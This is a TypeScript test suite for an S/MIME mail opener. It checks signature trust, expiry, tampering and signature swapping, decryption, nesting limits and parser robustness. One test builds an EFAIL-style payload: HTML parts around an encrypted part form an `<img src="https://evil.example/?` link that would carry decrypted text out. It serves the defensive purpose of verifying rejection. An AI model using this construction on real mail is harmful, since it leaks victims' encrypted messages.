import { createHash } from 'node:crypto';
import fc from 'fast-check';
import { beforeAll, describe, expect, it } from 'vitest';
import { canonical, entityIn, partsOf } from './mime.ts';
import { type KeyRing, openMail } from './open-mail.ts';
import { sealMail } from './seal-mail.ts';
import { anIdentity, type TestIdentity } from './testing.ts';

const at = new Date('2026-06-01T12:00:00Z');
const FROM = 'anna@partner.example';
const OURS = 'help@desk.example';

const mail = (text: string, head: string[] = []) =>
  Buffer.from(
    [
      `From: Anna <${FROM}>`,
      `To: ${OURS}`,
      'Subject: Offer',
      'MIME-Version: 1.0',
      ...(head.length > 0 ? head : ['Content-Type: text/plain; charset=utf-8']),
      '',
      text,
    ].join('\r\n'),
  );

let root: TestIdentity;
let anna: TestIdentity;
let desk: TestIdentity;
let mallory: TestIdentity;
let selfMadeAnna: TestIdentity;

beforeAll(async () => {
  root = await anIdentity({ name: 'Root', authority: true });
  [anna, desk, mallory, selfMadeAnna] = await Promise.all([
    anIdentity({ name: 'Anna', address: FROM, issuer: root }),
    anIdentity({ name: 'Desk', address: OURS, issuer: root }),
    anIdentity({ name: 'Mallory', address: 'mallory@evil.example', issuer: root }),
    anIdentity({ name: 'Anna', address: FROM }),
  ]);
});

const ring = (more: Partial<KeyRing> = {}): KeyRing => ({
  own: [desk],
  contacts: [],
  authorities: [root.certificate],
  ...more,
});
const open = (raw: Buffer, keys = ring()) => openMail(raw, keys, FROM, at);
const signed = (by: TestIdentity, text = 'Pay 100 EUR.\r\n') =>
  sealMail(mail(text), { sign: by, encryptFor: null }, at);
const sealed = (by: TestIdentity | null, text = 'Secret.\r\n') =>
  sealMail(mail(text), { sign: by, encryptFor: [desk.certificate] }, at);

describe('a signed mail', () => {
  it('is believed when an authority vouches for whom it comes from', async () => {
    const opened = await open(await signed(anna));
    expect(opened?.report).toMatchObject({
      type: 'S/MIME',
      sign: { success: true, comment: `Anna <${FROM}>`, reason: null, signer: { addresses: [FROM] } },
      encryption: { success: false, comment: null, reason: null },
    });
    expect(opened?.content?.toString()).toContain('Pay 100 EUR.');
    expect(Buffer.from(opened?.certificate ?? [])).toEqual(Buffer.from(anna.certificate));
  });

  it('is believed when an administrator brought its certificate, without any authority', async () => {
    const keys = ring({ authorities: [], contacts: [selfMadeAnna.certificate] });
    expect((await open(await signed(selfMadeAnna), keys))?.report.sign.success).toBe(true);
  });

  it('is checked by its bytes, however its lines were carried', async () => {
    const raw = Buffer.from((await signed(anna)).toString('latin1').replaceAll('\r\n', '\n'), 'latin1');
    expect((await open(raw))?.report.sign.success).toBe(true);
  });

  it.each([
    ['untrusted', () => selfMadeAnna],
    ['other-address', () => mallory],
  ] as const)('is not believed: %s', async (reason, by) => {
    const opened = await open(await signed(by()));
    expect(opened?.report.sign).toMatchObject({ success: false, reason });
    expect(opened?.certificate).toBeNull();
  });

  it('is not believed with one letter changed, and is shown as it came', async () => {
    const raw = Buffer.from((await signed(anna)).toString('latin1').replace('Pay 100', 'Pay 900'), 'latin1');
    const opened = await open(raw);
    expect(opened?.report.sign).toMatchObject({ success: false, reason: 'altered' });
    expect(opened?.content).toBeNull();
  });

  it('is not believed when its certificate has run out, or is not meant for mail', async () => {
    const late = await anIdentity({ name: 'Anna', address: FROM, issuer: root, validTo: new Date('2025-01-01Z') });
    expect((await open(await signed(late)))?.report.sign.reason).toBe('expired');
    const server = await anIdentity({ name: 'Anna', address: FROM, issuer: root, purposes: ['1.3.6.1.5.5.7.3.1'] });
    expect((await open(await signed(server)))?.report.sign.reason).toBe('not-for-mail');
  });

  it('is not believed when somebody vouches who is no authority', async () => {
    const made = await anIdentity({ name: 'Anna', address: FROM, issuer: mallory });
    const raw = await sealMail(
      mail('x\r\n'),
      { sign: { ...made, chain: [mallory.certificate] }, encryptFor: null },
      at,
    );
    expect((await open(raw))?.report.sign).toMatchObject({ success: false, reason: 'untrusted' });
  });

  it('shows of a good signature what is signed, and nothing that stands beside it', async () => {
    const text = (await signed(anna)).toString('latin1');
    const boundary = /boundary="([^"]+)"/.exec(text)?.[1] as string;
    const before = text.replace('This is a signed mail (S/MIME).', 'Pay Mallory instead.');
    const opened = await open(Buffer.from(before, 'latin1'));
    expect(opened?.report.sign.success).toBe(true);
    expect(opened?.content?.toString()).not.toContain('Mallory');
    const third = text.replace(`--${boundary}--`, `--${boundary}\r\n\r\nPay Mallory instead.\r\n--${boundary}--`);
    expect((await open(Buffer.from(third, 'latin1')))?.report.sign).toMatchObject({
      success: false,
      reason: 'malformed',
    });
  });

  it('is not believed with a signature of another text', async () => {
    const text = (await signed(anna)).toString('latin1');
    const opaque = (await sealMail(mail('x\r\n'), { sign: anna, encryptFor: null }, at)).toString('latin1');
    const swapped = text.replace(
      /(smime\.p7s"\r\n\r\n)[\s\S]*?(\r\n--)/,
      `$1${/smime\.p7s"\r\n\r\n([\s\S]*?)\r\n--/.exec(opaque)?.[1]}$2`,
    );
    expect((await open(Buffer.from(swapped, 'latin1')))?.report.sign).toMatchObject({
      success: false,
      reason: 'altered',
    });
  });

  it('within a mail of other parts counts for nothing', async () => {
    const { head, body } = entityIn(await signed(anna));
    const type = /Content-Type: [\s\S]*?boundary="[^"]+"\r\n/.exec(head.toString())?.[0] ?? '';
    const list = mail(`--L\r\n${type}\r\n${body}\r\n--L\r\n\r\nSent by the list.\r\n--L--\r\n`, [
      'Content-Type: multipart/mixed; boundary=L',
    ]);
    const opened = await open(list);
    expect(opened?.report.sign).toMatchObject({ success: false, reason: 'in-part' });
    expect(opened?.content).toBeNull();
  });

  it('with two headers that say what it is counts for nothing', async () => {
    const raw = Buffer.concat([Buffer.from('Content-Type: text/html\r\n'), await signed(anna)]);
    expect(await open(raw)).toBeNull();
  });
});

describe('an encrypted mail', () => {
  it('is opened with the key of the desk', async () => {
    const opened = await open(await sealed(null));
    expect(opened?.report).toMatchObject({ sign: { success: false, reason: null }, encryption: { success: true } });
    expect(opened?.content?.toString()).toContain('Secret.');
  });

  it('is opened and believed when it was signed before', async () => {
    const opened = await open(await sealed(anna));
    expect(opened?.report).toMatchObject({ sign: { success: true }, encryption: { success: true } });
    expect(opened?.content?.toString()).toMatch(/^Content-Type: text\/plain; charset=utf-8\r\n\r\nSecret\./);
  });

  it('shows nothing of its words in what everybody can read', async () => {
    expect((await sealed(anna)).toString()).not.toMatch(/Secret|multipart\/signed/);
  });

  it('stays closed without the key, and when it was damaged', async () => {
    const raw = await sealed(null);
    expect((await open(raw, ring({ own: [] })))?.report.encryption).toMatchObject({ success: false, reason: 'no-key' });
    const half = raw.subarray(0, raw.length - 200);
    const opened = await open(half);
    expect(opened?.report.encryption.success).toBe(false);
    expect(opened?.content).toBeNull();
  });

  it('among other parts is not opened: what stands around it could carry its words away', async () => {
    const inner = entityIn(await sealed(null));
    const type =
      'Content-Type: application/pkcs7-mime; smime-type=enveloped-data\r\nContent-Transfer-Encoding: base64\r\n';
    const around = mail(
      `--E\r\nContent-Type: text/html\r\n\r\n<img src="https://evil.example/?\r\n--E\r\n${type}\r\n${inner.body}\r\n--E\r\nContent-Type: text/html\r\n\r\n">\r\n--E--\r\n`,
      ['Content-Type: multipart/mixed; boundary=E'],
    );
    const opened = await open(around);
    expect(opened?.content).toBeNull();
    expect(opened?.report.encryption.success).toBe(false);
  });

  it('wrapped in itself without end is given up', async () => {
    let raw: Buffer = mail('deep\r\n');
    for (let n = 0; n < 6; n += 1) raw = await sealMail(raw, { sign: null, encryptFor: [desk.certificate] }, at);
    expect((await open(raw))?.report.encryption).toMatchObject({ success: false, reason: 'too-deep' });
  });
});

it('says nothing of mails that are neither', async () => {
  expect(await open(mail('Hello'))).toBeNull();
  expect(await open(Buffer.alloc(0))).toBeNull();
});

describe('bytes of a mail', () => {
  it('never make it throw, whatever they are', async () => {
    const base = await sealed(anna);
    await fc.assert(
      fc.asyncProperty(
        fc.array(fc.tuple(fc.nat(base.length - 1), fc.integer({ min: 0, max: 255 })), { minLength: 1, maxLength: 30 }),
        async (changes) => {
          const raw = Buffer.from(base);
          for (const [where, byte] of changes) raw[where] = byte;
          const opened = await open(raw);
          if (opened?.report.sign.success) expect(opened.content?.toString()).toContain('Secret.');
        },
      ),
      { numRuns: 60 },
    );
  });

  it('of parts are those between the boundaries, byte for byte', () => {
    const part = fc.uint8Array({ maxLength: 300 }).map((bytes) => Buffer.from(bytes));
    fc.assert(
      fc.property(fc.array(part, { minLength: 1, maxLength: 6 }), fc.constantFrom('\r\n', '\n'), (parts, end) => {
        const boundary = `b-${createHash('sha256').update(Buffer.concat(parts)).digest('hex')}`;
        const body = Buffer.concat([
          ...parts.flatMap((bytes) => [Buffer.from(`--${boundary}${end}`), bytes, Buffer.from(end)]),
          Buffer.from(`--${boundary}--${end}`),
        ]);
        // A part that ends in CR before a line of LF alone cannot be told from one that ends in CR LF.
        fc.pre(end === '\r\n' || parts.every((bytes) => bytes.at(-1) !== 13));
        expect(partsOf(body, boundary)).toEqual(parts);
      }),
    );
  });

  it('are signed with lines that end in CR LF, and stay as they are when they do', () => {
    fc.assert(
      fc.property(fc.array(fc.constantFrom('a', ' ', '\r\n', '\n', '\r'), { maxLength: 40 }), (signs) => {
        const once = canonical(Buffer.from(signs.join('')));
        expect(once.toString()).not.toMatch(/(?<!\r)\n/);
        expect(canonical(once)).toEqual(once);
        expect(once.toString().replaceAll('\r\n', '\n')).toBe(signs.join('').replaceAll('\r\n', '\n'));
      }),
    );
  });
});
